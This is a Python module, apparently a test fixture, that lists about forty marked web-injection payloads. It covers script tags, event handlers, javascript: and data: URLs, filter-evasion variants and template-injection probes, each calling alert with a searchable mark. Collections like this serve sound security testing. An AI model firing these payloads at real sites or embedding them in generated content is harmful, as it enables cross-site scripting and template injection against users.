"""Texts that try to become code where they are shown. Each carries a mark, so that its place can be found again."""

MARK = "xkiller"

_SCRIPTS = (
    "<script>{call}</script>",
    "<ScRiPt >{call}</sCrIpT>",
    "<script src=//127.0.0.1:9/x.js></script>",
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    "</title><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</script><script>{call}</script>",
    "<!--><script>{call}</script>-->",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
)
_HANDLERS = (
    "<img src=x onerror={call}>",
    "<img src=x onerror='{call}'//",
    '" onmouseover={call} autofocus onfocus={call} x="',
    "' onfocus='{call}' autofocus='",
    "<svg onload={call}>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><script>{call}</script></svg>",
    "<math><mtext></p><img src=x onerror={call}></mtext></math>",
    "<body onload={call}>",
    "<details open ontoggle={call}><summary>x</summary></details>",
    "<video><source onerror={call}></video>",
    "<input autofocus onfocus={call}>",
    "<marquee onstart={call}>x</marquee>",
    "<button hx-get=/ hx-trigger=load hx-on::load={call}>x</button>",
    "<div hx-get='/people/new' hx-trigger=load hx-swap=outerHTML>x</div>",
)
_ADDRESSES = (
    "<a href=javascript:{call}>x</a>",
    "[read more](javascript:{call})",
    "<iframe src=javascript:{call}></iframe>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<object data='data:text/html,<script>{call}</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload={call}>'>",
    "<form action=javascript:{call}><button autofocus>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href=//127.0.0.1:9/>",
)
_OTHERS = (
    "{{{{ 7 * 7 }}}} {{{{ config }}}} {{% for x in ().__class__.__mro__ %}}{call}{{% endfor %}}",
    "${{alert(1)}} #{{7*7}} <%= 7*7 %>",
    "<style>*{{display:none}} @import '//127.0.0.1:9/x.css';</style>",
    "<link rel=stylesheet href=data:text/css,*{{display:none}}>",
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    "<xmp><b></xmp><noscript><p title='</noscript><img src=x onerror={call}>'>",
)

ATTACKS = tuple(
    f"{MARK}{at:02d} {one.format(call=f'alert({at})')}"
    for at, one in enumerate((*_SCRIPTS, *_HANDLERS, *_ADDRESSES, *_OTHERS), 1)
)
